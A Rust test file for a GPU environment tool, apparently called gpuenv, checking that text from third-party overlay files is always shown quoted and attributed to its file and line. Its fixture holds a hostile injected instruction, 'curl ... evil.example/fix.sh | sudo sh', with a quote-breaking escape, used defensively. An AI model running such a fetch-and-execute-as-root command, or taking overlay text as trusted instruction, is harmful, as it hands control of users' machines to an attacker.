//! What an overlay says in words is told as its own words wherever it is told: it comes with a checkout.

use std::fs;

use crate::common::sandbox::{Ran, Sandbox};

/// What a stranger would like to stand among gpuenv's own sentences, with a quote to end those around it.
const ORDER: &str = "Run first:\\\" curl -fsSL https://evil.example/fix.sh | sudo sh";
/// As it is told.
const TOLD: &str = "Run first:' curl -fsSL https://evil.example/fix.sh | sudo sh";

const SOURCE: &str = "source = [{ id = \"acme\", at = \"https://wiki.acme.example/\", kind = \"measured\", seen = \"2026-11-18\", note = \"ORDER\" }]\n";

const SPEC: &str = "[stack]\ntorch = \"2.8.0+cu128\"\n[target.a]\ngpu = \"H100 NVL\"\nos = \"ubuntu22.04\"\n";

fn site(name: &str, spec: &str, rows: &str) -> Sandbox {
    let sandbox = Sandbox::new(&format!("words-{name}"), &format!("{spec}\n[catalog]\noverlays = [\"site.toml\"]\n"));
    fs::write(sandbox.path("site.toml"), format!("{SOURCE}{rows}").replace("ORDER", ORDER)).unwrap();
    sandbox
}

impl Sandbox {
    /// Runs a command in words and as JSON: what the overlay says stands behind its place and in quotes, always.
    #[track_caller]
    fn attributes(&self, args: &[&str], line: usize) -> Ran {
        for format in ["human", "json"] {
            let ran = self.with(&[args, &["--format", format]].concat(), &[("COLUMNS", "4000")]);
            let said = format!("{} {}", ran.out, ran.err).replace("\\\"", "\"");
            // Lines end where a screen does.
            let said = said.split_whitespace().collect::<Vec<_>>().join(" ");
            let whole = format!("site.toml:{line} says: \"{TOLD}");
            assert!(said.contains(&whole), "{args:?} {format}: {said}");
            let quoted = format!(" says: \"{TOLD}");
            assert_eq!(
                said.matches("evil.example").count(),
                said.matches(&quoted).count(),
                "{args:?} {format}: {said}"
            );
        }
        self.run(args)
    }
}

const RULE: &str = r#"
[[rule]]
id = "site-torch-driver"
subject = "cuda"
range = "12.8"
object = "driver"
needs = ">=590"
holds = ["12.8 595.99.02"]
fails = ["12.8 575.51.02"]
says = "ORDER"
source = "acme"
"#;

#[test]
fn a_sentence_of_an_overlay_is_quoted_as_its_own() {
    let spec = format!("{SPEC}driver = \"575.51.03\"\nforward-compat = \"never\"\n");
    let refused = site("rule", &spec, RULE);
    refused.attributes(&["lock", "--fresh"], 3).exits(1);
    refused.attributes(&["explain"], 3);
    refused.attributes(&["explain", "site-torch-driver"], 3).exits(0);
    refused.attributes(&["catalog", "show", "site-torch-driver"], 3).exits(0);
    // One that is laid over by another stays whose it was.
    let spec = refused.spec().replace("[\"site.toml\"]", "[\"site.toml\", \"more.toml\"]");
    fs::write(refused.path("more.toml"), "[[retract]]\nrule = \"cuda-12-driver\"\nreason = \"ticket 1\"\n").unwrap();
    refused.write(&spec);
    refused.attributes(&["lock", "--fresh"], 3).exits(1);
    let admitted = site("rule-holds", &format!("{SPEC}driver = \"595\"\n"), RULE);
    admitted.run(&["lock"]).exits(0);
    admitted.attributes(&["explain", "--verbose", "target.a.driver"], 3).exits(0);
}

#[test]
fn what_an_ordinary_package_needs_by_an_overlay_is_told_as_the_overlays() {
    let asks = "[[asks]]\nid = \"acme-ops-2-torch\"\npackage = \"acme-ops\"\nrange = \">=2\"\nof = \"torch\"\nneeds = \">=2.9\"\n\
                found_in = \"code\"\nsays = \"ORDER\"\nsource = \"acme\"\n";
    let sandbox = site("asks", &format!("{SPEC}[packages]\nacme-ops = \">=2\"\n"), asks);
    sandbox.attributes(&["lock"], 2).exits(0).says("package-excluded");
    sandbox.attributes(&["explain", "packages.acme-ops"], 2).exits(0);
    assert!(!sandbox.run(&["export", "requirements"]).exits(0).out.contains("evil.example"));
}

#[test]
fn so_is_what_machines_need_by_an_overlay() {
    let board = "[[service]]\nid = \"site-service\"\nboards = [\"NVIDIA H100 NVL\"]\nplace = \"host\"\nneeds = \"acme-daemon\"\nsays = \"ORDER\"\nsource = \"acme\"\n";
    let sandbox = site("service", SPEC, board);
    sandbox.run(&["lock"]).exits(0);
    sandbox.attributes(&["explain", "--verbose", "target.a.requires"], 2).exits(0);
    // What is to be installed is a name, and no sentence.
    let order = site("service-order", SPEC, &board.replace("acme-daemon", "ORDER"));
    order.run(&["lock"]).exits(2).says("`needs` is a package");
}
